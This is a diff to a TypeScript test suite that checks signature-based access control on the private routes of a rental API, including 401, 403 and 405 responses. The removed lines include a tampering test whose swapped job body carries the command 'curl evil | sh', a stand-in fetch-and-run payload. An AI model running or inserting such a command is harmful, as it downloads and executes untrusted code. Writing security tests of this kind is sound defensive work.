@@ -7,7 +7,6 @@ import {
   otherRenter,
   RENTAL,
   renter,
-  SPEC,
   startTestAgent,
   stranger,
   type TestAgent,
@@ -22,20 +21,17 @@ afterEach(async () => {
   await agent.server.close(0)
 })
 
-const job = JSON.stringify(SPEC)
-// Every private route, as [method, path, body].
-const PRIVATE: [string, string, string | undefined][] = [
-  ['GET', '/v1/rentals/1', undefined],
-  ['POST', '/v1/rentals/1/job', job],
-  ['GET', '/v1/rentals/1/logs', undefined],
-  ['GET', '/v1/rentals/1/logs/stream', undefined],
-  ['GET', '/v1/rentals/1/metrics', undefined],
+// Every private route, as [method, path].
+const PRIVATE: [string, string][] = [
+  ['GET', '/v1/rentals/1'],
+  ['GET', '/v1/rentals/1/logs'],
+  ['GET', '/v1/rentals/1/logs/stream'],
+  ['GET', '/v1/rentals/1/metrics'],
 ]
-const json = { 'content-type': 'application/json' }
 
 describe('private routes: who gets in', () => {
-  it.each(PRIVATE)('%s %s without a signature → 401, and no chain read', async (method, path, body) => {
-    const response = await agent.send(path, { method, body, headers: json, signer: null })
+  it.each(PRIVATE)('%s %s without a signature → 401, and no chain read', async (method, path) => {
+    const response = await agent.send(path, { method, signer: null })
     expect(response.status).toBe(401)
     expect(response.headers.get('cache-control')).toBe('no-store, no-transform')
     expect(await errorOf(response)).toMatchObject({
@@ -68,17 +64,11 @@ describe('private routes: who gets in', () => {
     expect(response.status).toBe(401)
   })
 
-  it('refuses a signature over another path or body → 401', async () => {
+  it('refuses a signature over another path or rental → 401', async () => {
     const headers = await agent.sign('/v1/rentals/1/metrics')
     expect((await fetch(`${agent.server.url}/v1/rentals/1/logs`, { headers })).status).toBe(401)
-    const signed = await agent.sign('/v1/rentals/1/job', { method: 'POST', body: job })
-    const swapped = await fetch(`${agent.server.url}/v1/rentals/1/job`, {
-      method: 'POST',
-      body: JSON.stringify({ command: ['sh', '-c', 'curl evil | sh'] }),
-      headers: { ...signed, ...json },
-    })
-    expect(swapped.status).toBe(401)
-    expect(agent.api.calls.deliverJob).toBe(0)
+    const other = await agent.sign('/v1/rentals/2/logs')
+    expect((await fetch(`${agent.server.url}/v1/rentals/1/logs`, { headers: other })).status).toBe(401)
   })
 
   it('verifies the path and query as the client sent them, percent-encoding included', async () => {
@@ -93,11 +83,10 @@ describe('private routes: who gets in', () => {
     expect((await errorOf(response)).message).toMatch(/malformed/)
   })
 
-  it.each(PRIVATE)('%s %s signed by a stranger → 403', async (method, path, body) => {
-    const response = await agent.send(path, { method, body, headers: json, signer: stranger })
+  it.each(PRIVATE)('%s %s signed by a stranger → 403', async (method, path) => {
+    const response = await agent.send(path, { method, signer: stranger })
     expect(response.status).toBe(403)
     expect((await errorOf(response)).code).toBe('forbidden')
-    expect(agent.api.calls.deliverJob).toBe(0)
   })
 
   it("refuses one renter another renter's rental → 403", async () => {
@@ -159,8 +148,8 @@ describe('private routes: who gets in', () => {
     const response = await agent.send('/v1/rentals/1', { method: 'DELETE', signer: null })
     expect(response.status).toBe(405)
     expect(response.headers.get('allow')).toBe('GET')
-    const get = await agent.send('/v1/rentals/1/job', { signer: null })
-    expect(get.status).toBe(405)
-    expect(get.headers.get('allow')).toBe('POST')
+    const post = await agent.send('/v1/rentals/1/logs', { method: 'POST', body: '{}', signer: null })
+    expect(post.status).toBe(405)
+    expect(post.headers.get('allow')).toBe('GET')
   })
 })
